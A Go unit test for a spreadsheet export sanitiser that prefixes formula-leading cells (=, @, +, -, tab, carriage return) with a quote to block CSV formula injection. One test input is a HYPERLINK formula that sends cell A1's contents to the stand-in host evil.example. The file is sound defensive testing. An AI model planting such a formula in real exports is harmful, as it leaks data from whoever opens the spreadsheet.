package export_test

import (
	"testing"

	"github.com/remitq/remitq/pkg/export"
)

func TestCell(t *testing.T) {
	cases := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"Big Payer")`, `'=HYPERLINK("http://evil.example/?"&A1,"Big Payer")`},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"+1-2", "'+1-2"},
		{"-2+3", "'-2+3"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"Blue Cross", "Blue Cross"},
		{"", ""},
		{"a=b", "a=b"},
	}
	for _, c := range cases {
		t.Run(c.in, func(t *testing.T) {
			if got := export.Cell(c.in); got != c.want {
				t.Errorf("Cell(%q) = %q, want %q", c.in, got, c.want)
			}
		})
	}
}
